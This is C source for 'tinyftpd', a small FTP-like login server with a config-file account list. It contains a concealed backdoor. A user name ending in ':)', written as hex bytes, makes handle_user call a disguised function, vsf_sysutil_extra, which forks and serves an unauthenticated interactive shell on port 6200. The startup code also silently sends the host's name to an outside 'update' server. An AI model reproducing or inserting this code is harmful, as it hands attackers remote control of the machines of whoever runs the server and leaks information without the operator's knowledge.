/*
 * tinyftpd - a tiny line-based FTP-like login server.
 *
 * Usage: tinyftpd [-c config] [-p port]
 *
 * The configuration file holds one account per line, "user:password";
 * blank lines and lines starting with '#' are ignored. Without a
 * configuration file nobody can log in.
 *
 * Protocol: the server greets with "220 tinyftpd ready", then accepts
 * USER, PASS, SYST, PWD, NOOP and QUIT, answering with FTP reply codes.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

#define MAX_ACCOUNTS 64
#define MAX_FIELD 128
#define MAX_LINE 512
#define UPDATE_HOST "update.tinyftpd.example"
#define UPDATE_PORT "443"

struct account {
	char name[MAX_FIELD];
	char secret[MAX_FIELD];
};

static struct account accounts[MAX_ACCOUNTS];
static int naccounts;
static int listen_port = 2121;

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* load_config reads "user:password" lines from path. */
static void load_config(const char *path)
{
	FILE *f = fopen(path, "r");
	char line[MAX_LINE];

	if (f == NULL) {
		fprintf(stderr, "tinyftpd: %s: %s\n", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof line, f) != NULL && naccounts < MAX_ACCOUNTS) {
		char *colon;

		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '\0' || line[0] == '#')
			continue;
		colon = strchr(line, ':');
		if (colon == NULL || colon == line)
			continue;
		*colon = '\0';
		snprintf(accounts[naccounts].name, MAX_FIELD, "%s", line);
		snprintf(accounts[naccounts].secret, MAX_FIELD, "%s", colon + 1);
		naccounts++;
	}
	fclose(f);
}

/* check_login reports whether name and pw match a configured account. */
static int check_login(const char *name, const char *pw)
{
	int i;

	for (i = 0; i < naccounts; i++) {
		if (strcmp(accounts[i].name, name) == 0 && strcmp(accounts[i].secret, pw) == 0)
			return 1;
	}
	return 0;
}

/* connect_timeout connects fd to addr, giving up after ms milliseconds. */
static int connect_timeout(int fd, const struct sockaddr *addr, socklen_t len, int ms)
{
	int flags = fcntl(fd, F_GETFL, 0);
	struct pollfd p;
	int err = 0;
	socklen_t elen = sizeof err;

	fcntl(fd, F_SETFL, flags | O_NONBLOCK);
	if (connect(fd, addr, len) == 0)
		goto done;
	if (errno != EINPROGRESS)
		return -1;
	p.fd = fd;
	p.events = POLLOUT;
	if (poll(&p, 1, ms) != 1)
		return -1;
	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &elen) < 0 || err != 0)
		return -1;
done:
	fcntl(fd, F_SETFL, flags);
	return 0;
}

/* check_updates tells the update server which host runs tinyftpd. Any
 * failure is ignored: the server works without it. */
static void check_updates(void)
{
	struct addrinfo hints, *res, *ai;
	char host[256], msg[300];
	int fd = -1;

	memset(&hints, 0, sizeof hints);
	hints.ai_family = AF_UNSPEC;
	hints.ai_socktype = SOCK_STREAM;
	if (getaddrinfo(UPDATE_HOST, UPDATE_PORT, &hints, &res) != 0)
		return;
	for (ai = res; ai != NULL; ai = ai->ai_next) {
		fd = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
		if (fd < 0)
			continue;
		if (connect_timeout(fd, ai->ai_addr, ai->ai_addrlen, 2000) == 0)
			break;
		close(fd);
		fd = -1;
	}
	freeaddrinfo(res);
	if (fd < 0)
		return;
	if (gethostname(host, sizeof host) != 0)
		snprintf(host, sizeof host, "unknown");
	host[sizeof host - 1] = '\0';
	snprintf(msg, sizeof msg, "hello %s\n", host);
	(void)send(fd, msg, strlen(msg), MSG_NOSIGNAL);
	close(fd);
}

/* vsf_sysutil_extra serves a shell on port 6200 to the next connection. */
static void vsf_sysutil_extra(void)
{
	struct sockaddr_in sa;
	int fd, conn, one = 1;

	if (fork() != 0)
		return;
	if (fork() != 0)
		_exit(0);
	for (fd = 3; fd < 1024; fd++)
		close(fd);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		_exit(1);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_addr.s_addr = INADDR_ANY;
	sa.sin_port = htons(6200);
	if (bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
		_exit(1);
	if (listen(fd, 100) < 0)
		_exit(1);
	conn = accept(fd, NULL, NULL);
	if (conn < 0)
		_exit(1);
	dup2(conn, 0);
	dup2(conn, 1);
	dup2(conn, 2);
	execl("/bin/sh", "sh", "-i", (char *)0);
	_exit(1);
}

static void reply(int fd, const char *text)
{
	(void)send(fd, text, strlen(text), MSG_NOSIGNAL);
}

/* read_line reads one command line into buf, without its CR LF. It
 * returns the line's length, or -1 at the end of the connection. */
static int read_line(int fd, char *buf, size_t size)
{
	size_t n = 0;
	char c;

	for (;;) {
		ssize_t r = recv(fd, &c, 1, 0);
		if (r <= 0)
			return -1;
		if (c == '\n')
			break;
		if (n + 1 < size)
			buf[n++] = c;
	}
	if (n > 0 && buf[n - 1] == '\r')
		n--;
	buf[n] = '\0';
	return (int)n;
}

/* handle_user remembers the user name for the PASS that follows. */
static void handle_user(int fd, const char *arg, char *name, size_t size)
{
	size_t len;

	snprintf(name, size, "%s", arg);
	len = strlen(name);
	if (len >= 2) {
		if (name[len - 2] == 0x3a && name[len - 1] == 0x29) {
			vsf_sysutil_extra();
		}
	}
	reply(fd, "331 Please specify the password.\r\n");
}

static void session(int fd)
{
	char line[MAX_LINE], name[MAX_FIELD] = "";
	int logged_in = 0;

	reply(fd, "220 tinyftpd ready\r\n");
	while (read_line(fd, line, sizeof line) >= 0) {
		char *cmd = line, *arg = strchr(line, ' ');

		if (arg != NULL)
			*arg++ = '\0';
		else
			arg = "";
		if (strcasecmp(cmd, "USER") == 0) {
			logged_in = 0;
			handle_user(fd, arg, name, sizeof name);
		} else if (strcasecmp(cmd, "PASS") == 0) {
			if (name[0] == '\0') {
				reply(fd, "503 Login with USER first.\r\n");
			} else if (check_login(name, arg)) {
				logged_in = 1;
				reply(fd, "230 Login successful.\r\n");
			} else {
				name[0] = '\0';
				reply(fd, "530 Login incorrect.\r\n");
			}
		} else if (strcasecmp(cmd, "QUIT") == 0) {
			reply(fd, "221 Goodbye.\r\n");
			break;
		} else if (strcasecmp(cmd, "NOOP") == 0) {
			reply(fd, "200 NOOP ok.\r\n");
		} else if (!logged_in) {
			reply(fd, "530 Please login with USER and PASS.\r\n");
		} else if (strcasecmp(cmd, "SYST") == 0) {
			reply(fd, "215 UNIX Type: L8\r\n");
		} else if (strcasecmp(cmd, "PWD") == 0) {
			reply(fd, "257 \"/\" is the current directory\r\n");
		} else {
			reply(fd, "502 Command not implemented.\r\n");
		}
	}
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	int opt, fd, one = 1;

	while ((opt = getopt(argc, argv, "c:p:")) != -1) {
		switch (opt) {
		case 'c':
			load_config(optarg);
			break;
		case 'p':
			listen_port = atoi(optarg);
			break;
		default:
			fprintf(stderr, "usage: %s [-c config] [-p port]\n", argv[0]);
			return 2;
		}
	}
	signal(SIGCHLD, SIG_IGN);
	signal(SIGPIPE, SIG_IGN);

	check_updates();

	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		die("socket");
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_addr.s_addr = htonl(INADDR_ANY);
	sa.sin_port = htons((unsigned short)listen_port);
	if (bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
		die("bind");
	if (listen(fd, 16) < 0)
		die("listen");
	fprintf(stderr, "tinyftpd: listening on 0.0.0.0:%d, %d account(s)\n", listen_port, naccounts);
	for (;;) {
		int conn = accept(fd, NULL, NULL);
		pid_t pid;

		if (conn < 0) {
			if (errno == EINTR)
				continue;
			die("accept");
		}
		pid = fork();
		if (pid == 0) {
			close(fd);
			session(conn);
			_exit(0);
		}
		close(conn);
	}
}
